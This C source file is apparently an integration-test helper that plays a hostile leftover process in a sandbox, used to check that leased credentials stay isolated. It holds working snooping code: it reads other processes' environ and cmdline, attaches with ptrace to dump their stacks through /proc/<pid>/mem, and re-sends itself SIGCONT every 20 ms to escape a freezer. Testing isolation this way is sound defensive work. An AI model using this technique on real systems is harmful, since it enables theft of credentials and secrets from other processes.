/* A process an earlier call leaves behind in a sandbox, to steal a leased
 * credential (tests/integration/test_lease_isolation.c; issue 25, item 1).
 * Built static, so that it runs in any image.
 *
 *   lease_snooper SECONDS LOOT READY
 *
 * It arms a POSIX timer that sends it SIGCONT every 20 ms, so that a
 * SIGSTOP (a freezer) holds it for at most one tick; then, until SECONDS
 * have passed, it reads every other process's /proc/<pid>/environ and
 * cmdline, and seizes every new process with ptrace (but another
 * snooper: see seize) to read its stack through /proc/<pid>/mem. Whatever looks like a test credential
 * ("snoopval_...") goes to LOOT as "<where> <value>" lines. READY is made
 * once the timer is armed. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MARK "snoopval_"
#define SEEN_MAX 65536
#define READ_MAX (1 << 20)

static int loot_fd = -1;
static char buf[READ_MAX];
static unsigned char seen[SEEN_MAX]; /* pids seized once already */
static char self_name[32];          /* this program's name (comm) */

/* Every "snoopval_<alnum>" in data[0..n) goes to the loot file. */
static void note(const char *where, const char *data, size_t n) {
  size_t ml = strlen(MARK);
  for (size_t i = 0; i + ml <= n; i++) {
    if (memcmp(data + i, MARK, ml) != 0) continue;
    size_t j = i + ml;
    while (j < n && isalnum((unsigned char)data[j])) j++;
    char line[256];
    int len = snprintf(line, sizeof line, "%s %.*s\n", where, (int)(j - i), data + i);
    if (len > 0 && write(loot_fd, line, (size_t)len) < 0) return;
    i = j - 1;
  }
}

static size_t slurp(const char *path, size_t max) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  size_t n = 0;
  for (ssize_t r; n < max && (r = read(fd, buf + n, max - n)) > 0;) n += (size_t)r;
  close(fd);
  return n;
}

/* The stack of a seized process, through /proc/<pid>/mem. */
static void stack(long pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%ld/maps", pid);
  FILE *f = fopen(path, "re");
  if (f == NULL) return;
  unsigned long lo = 0, hi = 0;
  char line[512];
  int found = 0;
  while (!found && fgets(line, sizeof line, f))
    found = strstr(line, "[stack]") && sscanf(line, "%lx-%lx", &lo, &hi) == 2;
  fclose(f);
  if (!found || hi <= lo) return;
  snprintf(path, sizeof path, "/proc/%ld/mem", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  size_t len = hi - lo > READ_MAX ? READ_MAX : hi - lo;
  ssize_t r = pread(fd, buf, len, (off_t)(hi - len));
  close(fd);
  if (r > 0) note("mem", buf, (size_t)r);
}

/* Is pid another snooper (its name is this one's)? */
static int fellow(long pid) {
  char path[64], name[32] = "";
  snprintf(path, sizeof path, "/proc/%ld/comm", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t r = read(fd, name, sizeof name - 1);
  close(fd);
  name[r > 0 ? r : 0] = '\0';
  return self_name[0] != '\0' && strcmp(name, self_name) == 0;
}

/* PTRACE_SEIZE and PTRACE_INTERRUPT: an attach's access check without a
 * stray SIGSTOP left behind. Never of another snooper: two that interrupt
 * each other at once both stop in a trap only the other could end, for
 * good (the calls they run in then hang until their timeout). Looked at
 * before the seize and again after it, as the process may just have
 * become one (exec). */
static void seize(long pid) {
  if (pid < SEEN_MAX) {
    if (seen[pid]) return;
    seen[pid] = 1;
  }
  if (fellow(pid) || ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, NULL) != 0) return;
  if (fellow(pid)) {
    ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
    return;
  }
  if (ptrace(PTRACE_INTERRUPT, (pid_t)pid, NULL, NULL) == 0) {
    int st;
    if (waitpid((pid_t)pid, &st, __WALL) == (pid_t)pid) stack(pid);
  }
  ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
}

/* A handler of its own: the kernel keeps no periodic timer going whose
 * signal is ignored (SIGCONT's default), and each SIGCONT generated
 * resumes a stopped process whatever its handler. */
static void on_cont(int sig) { (void)sig; }

static void round_once(long me) {
  DIR *d = opendir("/proc");
  if (d == NULL) return;
  struct dirent *e;
  while ((e = readdir(d)) != NULL) {
    char *end = NULL;
    long pid = strtol(e->d_name, &end, 10);
    if (end == e->d_name || *end != '\0' || pid == me) continue;
    static const char *const files[] = {"environ", "cmdline"};
    for (size_t i = 0; i < 2; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%ld/%s", pid, files[i]);
      note(files[i], buf, slurp(path, sizeof buf));
    }
    seize(pid);
  }
  closedir(d);
}

int main(int argc, char **argv) {
  if (argc != 4) {
    fputs("usage: lease_snooper SECONDS LOOT READY\n", stderr);
    return 2;
  }
  double seconds = strtod(argv[1], NULL);
  int sfd = open("/proc/self/comm", O_RDONLY | O_CLOEXEC);
  ssize_t sr = sfd >= 0 ? read(sfd, self_name, sizeof self_name - 1) : -1;
  if (sfd >= 0) close(sfd);
  self_name[sr > 0 ? sr : 0] = '\0';
  loot_fd = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
  if (loot_fd < 0) return 1;
  /* The self-resuming part: SIGCONT every 20 ms, from the kernel. */
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = on_cont;
  sa.sa_flags = SA_RESTART;
  if (sigaction(SIGCONT, &sa, NULL) != 0) return 1;
  struct sigevent sev;
  memset(&sev, 0, sizeof sev);
  sev.sigev_notify = SIGEV_SIGNAL;
  sev.sigev_signo = SIGCONT;
  timer_t timer;
  struct itimerspec its = {{0, 20 * 1000 * 1000}, {0, 20 * 1000 * 1000}};
  if (timer_create(CLOCK_MONOTONIC, &sev, &timer) != 0 || timer_settime(timer, 0, &its, NULL) != 0)
    return 1;
  int fd = open(argv[3], O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  if (fd < 0) return 1;
  close(fd);
  struct timespec t0, now, nap = {0, 2 * 1000 * 1000};
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long me = (long)getpid();
  do {
    round_once(me);
    nanosleep(&nap, NULL);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while ((double)(now.tv_sec - t0.tv_sec) + (double)(now.tv_nsec - t0.tv_nsec) / 1e9 < seconds);
  return 0;
}
